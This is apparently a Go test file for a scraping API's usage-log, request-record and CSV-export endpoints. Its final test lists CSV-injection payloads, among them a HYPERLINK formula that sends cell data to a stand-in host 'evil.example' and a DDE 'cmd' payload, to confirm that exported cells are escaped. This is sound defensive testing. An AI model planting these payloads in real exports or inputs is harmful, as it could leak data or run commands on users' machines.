package server_test

import (
	"encoding/csv"
	"strings"
	"testing"
)

type usageRow struct {
	Endpoint       string  `json:"endpoint"`
	URL            string  `json:"url"`
	Status         int     `json:"status"`
	TimeMS         float64 `json:"time_ms"`
	CreditsCharged int64   `json:"credits_charged"`
	TierUsed       string  `json:"tier_used"`
	RequestID      string  `json:"request_id"`
}

func TestUsageLog(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	key := e.signup("log@example.com")
	target := page(t).URL
	scraped := e.want(e.call("POST", "/v1/scrape", key, map[string]any{"url": target}), 200)
	e.want(e.call("POST", "/v1/scrape", key, map[string]any{"url": "ftp://x"}), 422)
	e.want(e.call("GET", "/v1/keys", key, nil), 200)
	e.flushUsage()

	var all struct {
		Rows   []usageRow `json:"rows"`
		Limit  int        `json:"limit"`
		Offset int        `json:"offset"`
	}
	e.want(e.call("GET", "/v1/me/usage", key, nil), 200).json(t, &all)
	if len(all.Rows) != 3 || all.Limit != 50 || all.Offset != 0 {
		t.Fatalf("usage = %+v", all)
	}
	if r := all.Rows[2]; r.Endpoint != "/v1/scrape" || r.URL != target || r.Status != 200 || r.CreditsCharged != 1 || r.TierUsed != "direct" || r.RequestID != scraped.header.Get("X-Request-Id") || r.TimeMS <= 0 {
		t.Fatalf("oldest row = %+v", r)
	}

	var filtered struct {
		Rows []usageRow `json:"rows"`
	}
	e.want(e.call("GET", "/v1/me/usage?endpoint=/v1/scrape&limit=1&offset=1", key, nil), 200).json(t, &filtered)
	if len(filtered.Rows) != 1 || filtered.Rows[0].Status != 200 {
		t.Fatalf("filtered page = %+v", filtered)
	}

	csvResp := e.want(e.call("GET", "/v1/me/usage?format=csv&endpoint=/v1/scrape", key, nil), 200)
	if !strings.HasPrefix(csvResp.header.Get("Content-Type"), "text/csv") {
		t.Fatalf("csv content type %q", csvResp.header.Get("Content-Type"))
	}
	records, err := csv.NewReader(strings.NewReader(string(csvResp.body))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(records[0], ",") != "created_at,endpoint,url,status,time_ms,credits_charged,tier_used,request_id" || len(records) != 3 {
		t.Fatalf("csv = %q", records)
	}
	if last := records[2]; last[1] != "/v1/scrape" || last[2] != target || last[3] != "200" || last[5] != "1" || last[6] != "direct" || last[7] != scraped.header.Get("X-Request-Id") {
		t.Fatalf("csv row = %q", last)
	}
	e.want(e.call("GET", "/v1/me/usage?format=xml", key, nil), 422)

	var summary struct {
		Days    int `json:"days"`
		Buckets []struct {
			Day      string `json:"day"`
			Requests int64  `json:"requests"`
			Errors   int64  `json:"errors"`
			Credits  int64  `json:"credits"`
		} `json:"buckets"`
	}
	e.want(e.call("GET", "/v1/me/usage/summary?days=7", key, nil), 200).json(t, &summary)
	if summary.Days != 7 || len(summary.Buckets) != 7 {
		t.Fatalf("summary = %+v", summary)
	}
	today := summary.Buckets[6]
	if today.Requests < 3 || today.Errors != 1 || today.Credits != 1 {
		t.Fatalf("today's bucket = %+v", today)
	}
	e.want(e.call("GET", "/v1/me/usage/summary?days=0", key, nil), 422)
}

// GET /v1/me/requests/{id}: every 404 case of SPEC §7.
func TestRequestRecord(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	key := e.signup("owner@example.com")
	other := e.signup("other@example.com")

	call := e.want(e.call("POST", "/v1/scrape", key, map[string]any{"url": page(t).URL}), 200)
	id := call.header.Get("X-Request-Id")
	health := e.want(e.call("GET", "/healthz", "", nil), 200).header.Get("X-Request-Id")

	e.want(e.call("GET", "/v1/me/requests/"+id, key, nil), 404) // logged less than a flush ago
	e.flushUsage()
	var rec usageRow
	e.want(e.call("GET", "/v1/me/requests/"+id, key, nil), 200).json(t, &rec)
	if rec.RequestID != id || rec.Endpoint != "/v1/scrape" || rec.CreditsCharged != 1 || rec.Status != 200 {
		t.Fatalf("record = %+v", rec)
	}
	e.want(e.call("GET", "/v1/me/requests/"+id, other, nil), 404)      // another account's
	e.want(e.call("GET", "/v1/me/requests/"+health, key, nil), 404)    // an unauthenticated health call
	e.want(e.call("GET", "/v1/me/requests/0123456789", key, nil), 404) // unknown
}

// A target URL is the caller's input and lands in the CSV export: cells a
// spreadsheet would run as formulas come out as text.
func TestUsageCSVEscapesFormulas(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	key := e.signup("csv-injection@example.com")
	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx"}
	for _, p := range payloads {
		e.want(e.call("POST", "/v1/scrape", key, map[string]any{"url": p}), 422)
	}
	e.flushUsage()
	body := e.want(e.call("GET", "/v1/me/usage?format=csv", key, nil), 200).body
	records, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, r := range records[1:] {
		got[r[2]] = true
		if r[3] != "422" {
			t.Errorf("status cell %q must stay a plain number", r[3])
		}
	}
	for _, p := range payloads {
		if !got["'"+p] {
			t.Errorf("url %q not escaped; cells: %q", p, records)
		}
	}
}
